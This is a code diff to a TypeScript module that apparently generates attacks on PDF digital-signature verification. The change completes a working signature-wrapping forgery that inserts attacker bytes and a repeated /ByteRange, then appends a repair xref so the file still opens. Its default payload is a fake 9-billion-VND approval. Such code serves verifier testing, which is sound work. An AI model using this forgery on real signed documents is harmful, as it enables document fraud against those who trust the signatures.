@@ -154,7 +154,8 @@ export function byteRangeZero(signed: Buffer): Attack {
  * Signature Wrapping: attacker bytes are inserted right after the last signature's /Contents, inside the gap,
  * and a second /ByteRange there (a repeated key: the last one wins in most parsers) moves range 2 past them.
  * The two ranges still hold exactly the originally signed bytes, so a verifier that only recomputes the CMS
- * digest over /ByteRange accepts it; the gap is no longer just the /Contents string.
+ * digest over /ByteRange accepts it; the gap is no longer just the /Contents string. A repair section (classic
+ * xref listing the shifted objects of the last revision) is appended so that the file still opens.
  */
 export function signatureWrapping(signed: Buffer, payload = '/Reason (Approved: amount 9,000,000,000 VND)'): Attack {
   const [a, b, c, d] = lastSignature(signed).byteRange;
@@ -162,8 +163,20 @@ export function signatureWrapping(signed: Buffer, payload = '/Reason (Approved: 
   for (let i = 0; i < 4; i++) inserted = ` /ByteRange [${a} ${b} ${c + inserted.length} ${d}] ${payload} `;
   const c2 = c + inserted.length;
   if (!inserted.includes(` ${c2} `)) throw new Error('ByteRange width did not settle');
-  const bytes = Buffer.concat([signed.subarray(0, c), Buffer.from(inserted, 'latin1'), signed.subarray(c)]);
-  return { bytes, description: `${inserted.length} attacker bytes inserted in the gap after /Contents; a repeated /ByteRange [${a} ${b} ${c2} ${d}] points range 2 past them` };
+  let body = Buffer.concat([signed.subarray(0, c), Buffer.from(inserted, 'latin1'), signed.subarray(c)]);
+  const reader = PdfReader.open(signed);
+  const shift = (o: number): number => (o >= c ? o + inserted.length : o);
+  const last = reader.xref.sections[0];
+  let xref = 'xref\n';
+  for (const [num, e] of [...last.entries].sort((x, y) => x[0] - y[0])) {
+    if (e.type === 'offset') xref += `${num} 1\n${String(shift(e.offset)).padStart(10, '0')} ${String(e.gen).padStart(5, '0')} n\r\n`;
+  }
+  const t = reader.trailer;
+  const keep = ['Root', 'Info', 'ID'].filter((k) => t.has(k)).map((k) => `/${k} ${serializeToBuffer(t.get(k)!).toString('latin1')}`).join(' ');
+  if (body[body.length - 1] !== 0x0a) body = Buffer.concat([body, Buffer.from('\n')]);
+  xref += `trailer\n<< /Size ${reader.size} ${keep} /Prev ${shift(last.offset)} >>\nstartxref\n${body.length}\n%%EOF\n`;
+  const bytes = Buffer.concat([body, Buffer.from(xref, 'latin1')]);
+  return { bytes, description: `${inserted.length} attacker bytes inserted in the gap after /Contents; a repeated /ByteRange [${a} ${b} ${c2} ${d}] points range 2 past them; a repair xref section keeps the file readable` };
 }
 
 /** Appends bytes after the final %%EOF (no new revision). */
